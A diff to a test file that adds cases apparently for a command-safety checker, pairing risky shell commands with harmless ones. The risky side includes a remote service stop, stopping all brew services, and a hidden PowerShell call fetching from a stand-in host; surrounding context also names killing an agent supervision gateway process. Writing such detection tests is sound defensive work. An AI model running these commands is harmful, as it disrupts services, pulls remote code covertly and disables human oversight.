@@ -71,6 +71,17 @@ test('an installer runs what its package brings', () => {
   )
 })
 
+test('services of other machines, and all at once, are not stopped unasked', () => {
+  twins(
+    [
+      'Invoke-Command -ComputerName srv01 -ScriptBlock { Stop-Service W3SVC -Force }',
+      'brew services stop --all',
+      'conhost.exe powershell -w hidden -c "iwr http://x.example/a"',
+    ],
+    ['Stop-Service W3SVC', 'brew services stop postgresql', 'brew services list'],
+  )
+})
+
 test('the gateway is stopped by its image name, too', () => {
   twins(['taskkill /IM agent-supervision-gateway.exe /F'], ['taskkill /IM node.exe /F', 'taskkill /PID 4312 /F'])
 })
